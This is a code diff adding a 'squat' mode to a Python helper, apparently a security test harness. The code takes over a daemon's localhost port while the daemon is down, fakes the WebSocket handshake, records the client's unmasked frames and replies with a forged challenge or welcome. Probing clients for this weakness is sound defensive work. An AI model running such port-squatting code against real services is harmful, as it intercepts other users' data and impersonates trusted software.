@@ -125,6 +125,66 @@ def guess(args: dict) -> dict:
     return counts
 
 
+def squat(args: dict) -> dict:
+    """Listen on the daemon's port while it is down, answer each client's upgrade, record every byte it sends
+    (unmasked), and reply to its first frame with `reply_hex` (a fake challenge, welcome or error)."""
+    import base64
+    import hashlib
+
+    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    server.bind(("127.0.0.1", args["port"]))
+    server.listen(8)
+    server.settimeout(args.get("seconds", 30))
+    print(json.dumps({"listening": True}), flush=True)
+    received = []
+    try:
+        conn, _ = server.accept()
+    except OSError:
+        return {"received": []}
+    conn.settimeout(5)
+    with conn:
+        head = b""
+        while b"\r\n\r\n" not in head:
+            chunk = conn.recv(4096)
+            if not chunk:
+                break
+            head += chunk
+        received.append(head.hex())
+        key = next((line.split(b":", 1)[1].strip() for line in head.split(b"\r\n")
+                    if line.lower().startswith(b"sec-websocket-key:")), b"")
+        accept = base64.b64encode(hashlib.sha1(key + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
+        conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+                     b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")
+        replied = False
+        try:
+            for _ in range(10):
+                first = conn.recv(2)
+                if len(first) < 2:
+                    break
+                n = first[1] & 0x7F
+                if n == 126:
+                    n = struct.unpack("!H", conn.recv(2))[0]
+                elif n == 127:
+                    n = struct.unpack("!Q", conn.recv(8))[0]
+                mask = conn.recv(4) if first[1] & 0x80 else b"\0\0\0\0"
+                data = b""
+                while len(data) < n:
+                    chunk = conn.recv(n - len(data))
+                    if not chunk:
+                        break
+                    data += chunk
+                received.append(bytes(b ^ mask[i % 4] for i, b in enumerate(data)).hex())
+                if not replied:
+                    reply = bytes.fromhex(args["reply_hex"])
+                    conn.sendall(bytes([0x82, 126]) + struct.pack("!H", len(reply)) + reply if len(reply) >= 126
+                                 else bytes([0x82, len(reply)]) + reply)
+                    replied = True
+        except OSError:
+            pass
+    return {"received": received, "uid": os.getuid()}
+
+
 if __name__ == "__main__":
     request = json.loads(sys.argv[1])
-    print(json.dumps({"guess": guess}[request["mode"]](request)), flush=True)
+    print(json.dumps({"guess": guess, "squat": squat}[request["mode"]](request)), flush=True)
